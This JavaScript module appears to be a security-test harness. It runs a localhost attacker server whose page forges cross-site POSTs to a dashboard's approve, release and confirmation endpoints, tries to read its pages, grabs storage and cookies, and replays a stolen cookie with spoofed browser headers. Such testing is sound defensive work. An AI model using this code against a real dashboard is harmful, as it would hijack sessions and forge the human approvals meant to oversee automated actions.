// An attacker's server on another port of the same host. Browsers send it the cookie of the dashboard, because
// cookies ignore ports, and treat its pages as same-site.
import { createServer } from "node:http";

/** The script of the attacker's page in the person's browser. `target` is the dashboard. */
const script = (target) => `
  const target = ${JSON.stringify(target)};
  window.read = [];
  const form = (path, fields) => {
    const frame = document.createElement("iframe");
    frame.name = "f" + Math.random();
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, { method: "post", action: target + path, target: frame.name });
    for (const [name, value] of Object.entries(fields)) {
      const input = document.createElement("input");
      Object.assign(input, { type: "hidden", name, value });
      form.append(input);
    }
    document.body.append(form);
    form.submit();
  };
  const attack = async () => {
    const fields = { session: "cleaner", csrf_token: "", ticket: "", why: "x", back: "inbox", key: "k1", secret: "" };
    for (const act of ["approve", "release", "say", "stop"]) form("/act/" + act, { ...fields, text: "yes" });
    for (const path of ["/", "/sessions/cleaner", "/v1/inbox", "/v1/sessions/cleaner/events"]) {
      for (const mode of ["cors", "no-cors"]) {
        const answer = await fetch(target + path, { credentials: "include", mode }).catch(() => null);
        if (answer) window.read.push(await answer.text().catch(() => ""));
      }
    }
    for (const type of ["text/plain", "application/json"]) {
      await fetch(target + "/v1/sessions/cleaner/confirmation", { method: "POST", credentials: "include", mode: type === "text/plain" ? "no-cors" : "cors",
        headers: { "Content-Type": type }, body: JSON.stringify({ answer: "yes", ticket: "x" }) }).catch(() => null);
    }
    const frame = document.createElement("iframe");
    frame.src = target + "/sessions/cleaner";
    document.body.append(frame);
    await new Promise((done) => { frame.onload = done; setTimeout(done, 2000); });
    try { window.read.push(frame.contentDocument.body.textContent); } catch { /* Another origin. */ }
    const opened = window.open(target + "/sessions/cleaner");
    await new Promise((done) => setTimeout(done, 1000));
    try { window.read.push(opened.document.body.textContent); } catch { /* Another origin. */ }
    try { window.read.push(JSON.stringify({ ...localStorage }), document.cookie); } catch { /* No storage. */ }
  };
  attack().finally(() => { window.finished = true; });
`;

/** Starts the server; `cookies` has each Cookie header that a browser sent. */
export const attacker = async (target) => {
  const cookies = new Set();
  const server = createServer((request, response) => {
    if (request.headers.cookie) cookies.add(request.headers.cookie);
    response.setHeader("Content-Type", "text/html");
    response.end(`<!doctype html><title>other</title><body><script>${script(target)}</script>`);
  });
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  return { cookies, port: server.address().port, close: () => server.close() };
};

/** Uses a stolen cookie from a program, with every header that a browser would send. Returns everything that was read. */
export const replay = async (target, cookie, session) => {
  const headers = { Cookie: cookie, Origin: target, Referer: `${target}/`, "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "navigate", Accept: "text/html" };
  const read = [];
  const get = async (path, more) => {
    const answer = await fetch(target + path, { headers: { ...headers, ...more }, redirect: "manual" });
    const text = await answer.text();
    read.push(text);
    return text;
  };
  const field = (page, name) => new RegExp(`name="${name}" value="([^"]*)"`).exec(page)?.[1] ?? "";
  for (const path of ["/", `/sessions/${session}`]) {
    const page = await get(path);
    const token = field(page, "csrf_token");
    const fields = { csrf_token: token, session, ticket: field(page, "ticket"), key: `stolen-${Math.random()}`, why: "x", text: "yes", back: "inbox" };
    for (const act of ["approve", "release", "say"]) {
      const body = new URLSearchParams(fields);
      await fetch(`${target}/act/${act}`, { method: "POST", headers, body, redirect: "manual" }).then((answer) => answer.text());
    }
    const inbox = await get("/v1/inbox", { Accept: "application/json", "Flyball-CSRF": token, "X-CSRF-Token": token });
    const ticket = /"ticket":"([^"]+)"/.exec(inbox)?.[1];
    const body = JSON.stringify({ answer: "yes", ticket: ticket ?? "x" });
    await fetch(`${target}/v1/sessions/${session}/confirmation`, { method: "POST", headers: { ...headers, "Content-Type": "application/json", "Flyball-CSRF": token }, body });
    await fetch(`${target}/v1/sessions/${session}/releases`, { method: "POST", headers: { ...headers, "Content-Type": "application/json", "Flyball-CSRF": token }, body: JSON.stringify({ why: "x" }) });
  }
  await get(`/v1/sessions/${session}/events`, { Accept: "application/json" });
  await get("/v1/live?after=0-0", { Accept: "application/json" }).catch(() => {});
  return read;
};
